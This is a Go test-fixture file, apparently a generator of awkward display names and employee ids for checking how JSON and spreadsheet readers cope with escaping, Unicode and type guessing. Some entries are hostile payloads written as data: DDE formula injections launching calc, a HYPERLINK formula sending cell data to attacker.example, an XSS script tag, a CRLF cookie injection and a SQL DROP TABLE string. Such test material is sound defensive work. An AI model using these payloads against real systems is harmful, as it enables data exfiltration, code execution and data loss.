package people

import "strings"

// hostileNames returns display names that break careless readers, each as the
// inside of a JSON string, escaped as a server may escape it.
func hostileNames() []string {
	return []string{
		`=cmd|' /C calc'!A0`,
		`+1 (555) 0100`,
		`@SUM(1+1)*cmd|' /C calc'!A0`,
		`-2+3+cmd|' /C calc'!A0`,
		`=HYPERLINK(\"https://attacker.example/?\"&A1,\"Click\")`,
		`\t=1+1`,
		`\r=1+1`,
		`She said \"no\"`,
		`Comma, Semicolon; Pipe|Tab\tEnd`,
		`Line\nbreak`,
		`Carriage\r\nreturn`,
		"Separator\u2028line\u2029paragraph",
		`Escaped \u2028 separator`,
		`Family 👩‍👩‍👧‍👦 and flag 🏴‍☠️`,
		`Pair \ud83d\ude00 escaped`,
		`Lone \ud83d surrogate`,
		`Lone \ude00 low`,
		"Zero\u200bwidth\u200djoiner\ufeff",
		"Right\u202eleft",
		`Esc \u001b[31mred\u001b[0m`,
		`Bell \u0007 and \u0000 nul`,
		`Back\\slash and \/ slash`,
		`C:\\Users\\public`,
		`</script><script>alert(1)</script>`,
		`<b>&amp;</b>`,
		`{\"id\":\"not-an-id\"}`,
		`\"value\":[]`,
		`%0d%0aSet-Cookie: a=b`,
		`'; DROP TABLE users; --`,
		`  leading and trailing  `,
		`null`,
		`Zalgo ẗ̴͚́e̶̱͝x̵͇̊t̷`,
		strings.Repeat("Ω", 256),
		strings.Repeat("Wolfeschlegelstein", 14) + "haus",
		`\u00e9\u00E9é`,
		"e\u0301 decomposed",
		`DEL \u007f and C1 \u0085`,
		`𠮷野家 𝒜𝓁𝒾𝒸ℯ`,
		`Noncharacters \uffff and \ufffe`,
		`_x0041_ as a spreadsheet escapes`,
		"\ufeffByte order mark",
		`\n`,
		`Ends with a return\r`,
		`\"quoted\"`,
		`\\.`,
		`\\N`,
		`NaN`,
		`#N/A`,
		`{}`,
		`[1]`,
		``,
	}
}

// numerals returns employee ids that careless readers take for something else: a
// number, a date, a formula, nothing. Each is the inside of a JSON string.
func numerals() []string {
	return []string{
		`00123`, `0`, `-0`, `12345678901234567890123`, `9007199254740993`, `1e5`, `1.10`, `1,000`, `0x1F`, ` 7`, `1_000`, `½`,
		`2024-01-02`, `2024-01-02T03:04:05Z`, `3/4`, `12:30`, `TRUE`, `false`, `=1+1`, `-1`, `+49`, `NULL`, `None`, `NA`, `nan`, `Infinity`, ``,
	}
}

// late is the first user who has what nobody before has: a reader that decides by the
// first rows what a column is gets it wrong.
const late = 10_050

// isLate is true for one in three of those users, in a hostile tenant.
func (u *Person) isLate() bool { return u.People.hostile && u.index >= late && u.index%3 == 0 }
